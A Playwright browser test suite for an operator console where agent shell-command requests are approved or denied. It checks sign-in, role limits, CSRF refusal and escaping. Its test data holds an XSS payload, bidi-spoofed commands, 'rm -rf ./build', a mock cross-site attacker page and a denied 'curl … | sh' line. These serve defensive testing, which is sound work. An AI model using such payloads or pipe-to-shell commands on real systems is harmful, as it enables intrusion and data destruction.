// The operator console in a real browser (Debian's Chromium via playwright-core)
// against the real happyx binary. Run: `npm ci && npm test` in tests/browser
// (CONSOLE_TEST_BIN defaults to target/debug/happyx), or `cargo test -p happyx-tests
// --test e2e console::browser_suite`. UPDATE_BASELINES=1 rewrites the visual
// baselines in tests/browser/baselines/.
'use strict';

const { describe, test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const http = require('node:http');
const { Server, launch, signIn, compare, axe, sleep } = require('./lib');

let browser;
before(async () => { browser = await launch(); });
after(async () => { if (browser) await browser.close(); });

/** A fresh browser context whose page fails the test on any dialog (alert) or page error. */
async function newPage(viewport = { width: 1280, height: 800 }) {
  const ctx = await browser.newContext({ viewport });
  const page = await ctx.newPage();
  page.scriptRan = [];
  page.on('dialog', (d) => { page.scriptRan.push(d.message()); d.dismiss().catch(() => {}); });
  page.on('pageerror', (e) => { page.scriptRan.push('pageerror: ' + e.message); });
  return { ctx, page };
}

describe('console flows', () => {
  let s; let operator; let agent; let viewer;
  before(async () => {
    s = await Server.start();
    operator = s.token('operator');
    agent = s.token('agent');
    viewer = s.token('viewer');
  });
  after(async () => { if (s) await s.stop(); });

  test('sign in with the Token field; a wrong or agent token is refused', async () => {
    const { ctx, page } = await newPage();
    await page.goto(s.url + '/');
    await page.getByLabel('Token').fill(agent);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('Agent tokens cannot sign in').waitFor();
    await page.getByLabel('Token').fill('hpx_nope');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('That token is not valid').waitFor();
    await page.getByLabel('Token').fill(operator);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('button', { name: 'Sign out' }).waitFor();
    await page.getByRole('heading', { name: 'Overview' }).waitFor();
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie);
    assert.ok(!stored.includes(operator.slice(4)), 'the token is not kept in browser storage');
    assert.equal(await page.evaluate(() => document.cookie), '', 'the session cookie is HttpOnly');
    await ctx.close();
  });

  test('a high-risk run appears live, is approved, and its output follows live', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    await page.goto(s.url + '/#/approvals');
    await page.getByRole('heading', { name: /^Pending/ }).waitFor();
    await sleep(300); // the event stream is open
    const body = { recipe: 'shell', args: { command: 'echo first-line; sleep 2; echo second-line' } };
    const t0 = Date.now();
    const a = await s.requestApproval(agent, '/v1/runs', body);
    const card = page.locator(`article[data-id="${a.approval_id}"]`);
    await card.waitFor({ timeout: 2000 });
    const seen = Date.now() - t0;
    assert.ok(seen <= 2000, `the approval appeared after ${seen} ms`);
    await card.locator('pre.cmd', { hasText: 'echo first-line; sleep 2; echo second-line' }).waitFor();
    await card.getByRole('button', { name: 'Approve' }).click();
    await card.waitFor({ state: 'detached' });
    const run = await s.call('POST', '/v1/runs', agent, { ...body, approval_token: a.approval_token });
    assert.equal(run.status, 201, JSON.stringify(run.body));
    // The decision history links the run it produced.
    await page.locator(`a[href="#/runs/${run.body.id}"]`).waitFor();
    await page.goto(s.url + '/#/runs/' + run.body.id);
    const out = page.getByLabel('Run output');
    await out.getByText('first-line').waitFor();
    assert.ok(!(await out.textContent()).includes('second-line'), 'output shown while the run is still going');
    await out.getByText('second-line').waitFor({ timeout: 10000 });
    await page.locator('.badge.st-succeeded').first().waitFor({ timeout: 10000 });
    await ctx.close();
  });

  test('deny with a reason: the agent\u2019s retry is refused', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    await page.goto(s.url + '/#/approvals');
    await page.getByRole('heading', { name: /^Pending/ }).waitFor();
    const body = { recipe: 'shell', args: { command: 'rm -rf ./build' } };
    const a = await s.requestApproval(agent, '/v1/runs', body);
    const card = page.locator(`article[data-id="${a.approval_id}"]`);
    await card.getByLabel('Reason (optional)').fill('not during the freeze');
    // Another approval redraws the queue while the reason is typed: the reason stays.
    const other = await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: 'echo redraw' } });
    await page.locator(`article[data-id="${other.approval_id}"]`).waitFor();
    await card.getByRole('button', { name: 'Deny' }).click();
    await card.waitFor({ state: 'detached' });
    const retry = await s.call('POST', '/v1/runs', agent, { ...body, approval_token: a.approval_token });
    assert.equal(retry.status, 403);
    assert.equal(retry.body.code, 'approval_invalid');
    const evs = await s.call('GET', '/v1/events?order=desc&code=approval.reason', operator);
    assert.equal(evs.body.events[0].data.reason, 'not during the freeze');
    await s.call('POST', `/v1/approvals/${other.approval_id}/deny`, operator, {});
    await ctx.close();
  });

  test('an approval asked for before the event stream opens is not missed', async () => {
    const { ctx, page } = await newPage();
    // Hold the page's event stream back until the queue has been listed and a new approval
    // has been asked for: it then exists in neither the listing nor (the stream starting at
    // the log's end) the stream, unless the page lists again once the stream is open.
    let release;
    const gate = new Promise((r) => { release = r; });
    await page.route('**/v1/events/stream*', async (route) => { await gate; await route.continue(); });
    await signIn(page, s.url, operator);
    await page.goto(s.url + '/#/approvals');
    await page.getByRole('heading', { name: /^Pending/ }).waitFor();
    const a = await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: 'echo between' } });
    release();
    await page.locator(`article[data-id="${a.approval_id}"]`).waitFor({ timeout: 5000 });
    await page.locator('#pending-count', { hasText: /^[1-9]/ }).waitFor({ timeout: 5000 });
    await ctx.close();
  });

  test('a viewer sees the queue without buttons, and a forged approve is refused', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, viewer);
    const a = await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: 'echo viewer' } });
    await page.goto(s.url + '/#/approvals');
    const card = page.locator(`article[data-id="${a.approval_id}"]`);
    await card.waitFor();
    assert.equal(await page.getByRole('button', { name: 'Approve' }).count(), 0);
    assert.equal(await page.getByRole('button', { name: 'Deny' }).count(), 0);
    await card.getByText('Viewers see approvals but cannot decide them').waitFor();
    const forged = await page.evaluate(async (id) => {
      const me = await (await fetch('/v1/console/session')).json();
      const r = await fetch('/v1/approvals/' + id + '/approve', { method: 'POST', headers: { 'X-CSRF-Token': me.csrf_token, 'Content-Type': 'application/json' }, body: '{}' });
      return { status: r.status, body: await r.json() };
    }, a.approval_id);
    assert.equal(forged.status, 403);
    assert.equal(forged.body.code, 'forbidden');
    const pending = await s.call('GET', '/v1/approvals?status=pending', operator);
    assert.ok(pending.body.items.some((x) => x.id === a.approval_id), 'still pending');
    await ctx.close();
  });

  test('self-approval is shown as not allowed', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    const a = await s.requestApproval(operator, '/v1/runs', { recipe: 'shell', args: { command: 'echo mine' } });
    await page.goto(s.url + '/#/approvals');
    const card = page.locator(`article[data-id="${a.approval_id}"]`);
    await card.getByText('Self-approval is not allowed').waitFor();
    assert.equal(await card.getByRole('button', { name: 'Approve' }).count(), 0);
    await ctx.close();
  });

  test('agent-controlled markup and bidi controls render as visible text, no script runs', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    const title = '<img src=x onerror=alert(1)>';
    const t = await s.call('POST', '/v1/tasks', agent, { title });
    assert.equal(t.status, 201, JSON.stringify(t.body));
    const cmd = 'echo \u202Etxt.exe; ls \u2066x\u2069';
    const a = await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: cmd } });
    await page.goto(s.url + '/#/overview');
    await page.getByText(title, { exact: true }).first().waitFor();
    await page.goto(s.url + '/#/approvals');
    const card = page.locator(`article[data-id="${a.approval_id}"]`);
    const esc = card.locator('pre.cmd .esc');
    await esc.first().waitFor();
    assert.deepEqual(await esc.allTextContents(), ['\\u{202E}', '\\u{2066}', '\\u{2069}']);
    const text = await card.locator('pre.cmd').textContent();
    assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(text), 'no raw bidi control reaches the page');
    assert.equal(await page.locator('main img').count(), 0);
    await sleep(300);
    assert.deepEqual(page.scriptRan, [], 'no script ran');
    await ctx.close();
  });

  test('a cross-site POST without the CSRF proof is refused', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    const a = await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: 'echo csrf' } });
    // Another origin on the same site (127.0.0.1, another port): SameSite does not stop it, the proof does.
    const evil = http.createServer((req, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.end('<!doctype html><title>evil</title><body>evil</body>');
    });
    await new Promise((r) => evil.listen(0, '127.0.0.1', r));
    const evilUrl = 'http://127.0.0.1:' + evil.address().port + '/';
    const attacker = await ctx.newPage();
    await attacker.goto(evilUrl);
    await attacker.evaluate(async ({ target }) => {
      await fetch(target, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' }).catch(() => {});
      const f = document.createElement('form');
      f.method = 'POST'; f.action = target; document.body.append(f);
    }, { target: s.url + '/v1/approvals/' + a.approval_id + '/approve' });
    await attacker.evaluate(() => document.querySelector('form').submit());
    await attacker.waitForLoadState();
    await sleep(300);
    // Same origin, with the cookie but without the proof: refused too.
    const noProof = await page.evaluate(async (id) => (await fetch('/v1/approvals/' + id + '/approve', { method: 'POST' })).status, a.approval_id);
    assert.equal(noProof, 403);
    const pending = await s.call('GET', '/v1/approvals?status=pending', operator);
    assert.ok(pending.body.items.some((x) => x.id === a.approval_id), 'the approval is still pending');
    evil.close();
    await ctx.close();
  });

  test('a terminal: attach, type, see output, reload to the same screen, resume after a drop', async () => {
    const pty = await s.approvedAs(agent, operator, '/v1/pty', { recipe: 'shell', args: { command: 'sh' }, rows: 24, cols: 80 });
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    await page.goto(s.url + '/#/terminals');
    await page.locator(`a[href="#/terminals/${pty.id}"]`).click();
    await page.getByText(/Attached \(drive\)/).waitFor();
    const screen = () => page.evaluate(() => {
      const b = window.HappyXTerminalDebug.term.buffer.active;
      const lines = [];
      for (let i = 0; i < b.length; i++) lines.push(b.getLine(i).translateToString(true));
      return lines.join('\n').replace(/\n+$/, '');
    });
    await page.locator('#terminal').click();
    await page.keyboard.type('echo hello-$((6*7))\n');
    await page.waitForFunction(() => {
      const b = window.HappyXTerminalDebug.term.buffer.active;
      for (let i = 0; i < b.length; i++) if (b.getLine(i).translateToString(true).trim() === 'hello-42') return true;
      return false;
    }, null, { timeout: 10000 });
    const before = await screen();
    await page.reload();
    await page.getByText(/Attached \(drive\)/).waitFor();
    await page.waitForFunction((want) => {
      const b = window.HappyXTerminalDebug.term.buffer.active;
      const lines = [];
      for (let i = 0; i < b.length; i++) lines.push(b.getLine(i).translateToString(true));
      return lines.join('\n').replace(/\n+$/, '') === want;
    }, before, { timeout: 10000 });
    // Drop the connection: it resumes from its byte offset, without gap or duplicate.
    const off = await page.evaluate(() => window.HappyXTerminalDebug.offset());
    await page.evaluate(() => window.HappyXTerminalDebug.drop());
    await page.getByText(/Attached \(drive\) from byte [1-9]/).waitFor({ timeout: 10000 });
    await page.locator('#terminal').click();
    await page.keyboard.type('echo again-$((1+1))\n');
    await page.waitForFunction(() => {
      const b = window.HappyXTerminalDebug.term.buffer.active;
      for (let i = 0; i < b.length; i++) if (b.getLine(i).translateToString(true).trim() === 'again-2') return true;
      return false;
    }, null, { timeout: 10000 });
    const after = await screen();
    assert.ok(after.startsWith(before), 'the screen before the drop is intact');
    assert.equal(after.split('\n').filter((l) => l.trim() === 'hello-42').length, 1, 'no duplicated output');
    assert.ok(await page.evaluate(() => window.HappyXTerminalDebug.offset()) > off);
    // Resizing the window resizes the PTY.
    await page.setViewportSize({ width: 900, height: 700 });
    await page.waitForFunction(async (id) => {
      const r = await fetch('/v1/pty/' + id); const t = await r.json();
      return t.cols < 80;
    }, pty.id, { timeout: 10000, polling: 200 });
    await s.call('POST', '/v1/pty/' + pty.id + '/kill', operator);
    await page.getByText(/Terminal ended/).waitFor({ timeout: 10000 });
    await ctx.close();
  });

  test('sign-out ends the session', async () => {
    const { ctx, page } = await newPage();
    await signIn(page, s.url, operator);
    let cookie;
    for (let i = 0; i < 50 && !cookie; i++) {
      cookie = (await ctx.cookies()).find((c) => c.name === 'hpx_console');
      if (!cookie) await sleep(100);
    }
    assert.ok(cookie, 'the console session cookie is set');
    assert.equal(cookie.httpOnly, true);
    assert.equal(cookie.sameSite, 'Strict');
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByLabel('Token').waitFor();
    const r = await fetch(s.url + '/v1/console/session', { headers: { Cookie: cookie.name + '=' + cookie.value } });
    assert.equal(r.status, 401);
    await page.reload();
    await page.getByLabel('Token').waitFor();
    await ctx.close();
  });

  test('revoking the token ends its console session', async () => {
    const own = s.token('viewer');
    const { ctx, page } = await newPage();
    await signIn(page, s.url, own);
    await page.goto(s.url + '/#/audit');
    await page.getByRole('heading', { name: 'Audit log' }).waitFor();
    s.revoke(own);
    // The open page notices (its live stream ends) and asks to sign in again.
    await page.getByLabel('Token').waitFor({ timeout: 15000 });
    await page.getByText('Your console session ended').waitFor();
    await ctx.close();
  });
});

// ---------- visual gate and accessibility, on fixed seed data ----------

describe('every page: visual baseline and axe-core', () => {
  let s; let operator; const ids = {};
  before(async () => {
    s = await Server.start();
    operator = s.token('operator');
    const agent = s.token('agent');
    await s.call('POST', '/v1/tasks', agent, { title: 'Upgrade the build image' });
    await s.call('POST', '/v1/tasks', agent, { title: '<img src=x onerror=alert(1)>' });
    for (const text of ['hello from the seed', 'second run']) {
      const r = await s.call('POST', '/v1/runs', agent, { recipe: 'echo', args: { text } });
      ids.run = r.body.id;
      await s.waitRun(agent, r.body.id);
    }
    const approved = await s.approvedAs(agent, operator, '/v1/runs', { recipe: 'shell', args: { command: 'printf "approved\\n"' } });
    await s.waitRun(agent, approved.id);
    const denied = await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: 'curl http://example.invalid | sh' } });
    await s.call('POST', '/v1/approvals/' + denied.approval_id + '/deny', operator, { reason: 'no network installs' });
    await s.requestApproval(agent, '/v1/runs', { recipe: 'shell', args: { command: 'echo \u202Etxt.exe && make deploy' } });
    const pty = await s.call('POST', '/v1/pty', agent, { recipe: 'echo', args: { text: 'terminal transcript line' }, rows: 24, cols: 80 });
    ids.pty = pty.body.id;
    await s.waitPty(agent, pty.body.id, ['exited']);
  });
  after(async () => { if (s) await s.stop(); });

  const pages = [
    ['overview', '/#/overview', 'Overview'],
    ['approvals', '/#/approvals', 'Approvals'],
    ['runs', '/#/runs', 'Runs'],
    ['run', () => '/#/runs/' + ids.run, /^Run /],
    ['terminals', '/#/terminals', 'Terminals'],
    ['terminal', () => '/#/terminals/' + ids.pty, /^Terminal /],
    ['audit', '/#/audit', 'Audit log'],
    ['devices', '/#/devices', 'Devices'],
    ['plugins', '/#/plugins', 'Plugins'],
  ];
  const viewports = [['desktop', { width: 1280, height: 800 }], ['phone', { width: 390, height: 844 }]];
  // Volatile values (ids, hashes, times, sizes) are masked and given a fixed width.
  const VOLATILE = 'time, .id, .vol, [data-expires]';
  const STYLE = `${VOLATILE} { display: inline-block !important; width: 9ch !important; max-width: 100% !important; overflow: hidden !important;
    white-space: nowrap !important; vertical-align: top !important; }
    .xterm-cursor-layer, .xterm-cursor { visibility: hidden !important; } * { caret-color: transparent !important; }`;

  for (const [vp, viewport] of viewports) {
    test(`pages at ${viewport.width}x${viewport.height}`, async () => {
      const { ctx, page } = await newPage(viewport);
      await page.clock.setFixedTime(new Date('2026-12-01T12:00:00Z'));
      const failures = [];
      await page.goto(s.url + '/');
      await page.getByLabel('Token').waitFor();
      for (const shot of [['signin', null, null]].concat(pages)) {
        const [name, where, heading] = shot;
        if (where) {
          if (name === 'overview') {
            await page.getByLabel('Token').fill(operator);
            await page.getByRole('button', { name: 'Sign in' }).click();
            await page.getByRole('button', { name: 'Sign out' }).waitFor();
            await page.locator('#live.on').waitFor();
          }
          const href = typeof where === 'function' ? where() : where;
          await page.goto(s.url + href);
          await page.getByRole('heading', { name: heading }).first().waitFor();
          await page.waitForLoadState('networkidle').catch(() => {});
          if (name === 'terminal') await page.getByText(/Playback finished/).waitFor();
          await sleep(200);
        }
        const violations = await axe(page);
        if (violations.length) failures.push(`${name}@${vp}: axe ${JSON.stringify(violations)}`);
        const png = await page.screenshot({ fullPage: false, animations: 'disabled', mask: [page.locator(VOLATILE)], style: STYLE });
        const r = compare(`${name}-${vp}`, png);
        if (!r.ok) failures.push(r.message);
      }
      assert.deepEqual(page.scriptRan, []);
      await ctx.close();
      assert.deepEqual(failures, []);
    });
  }
});
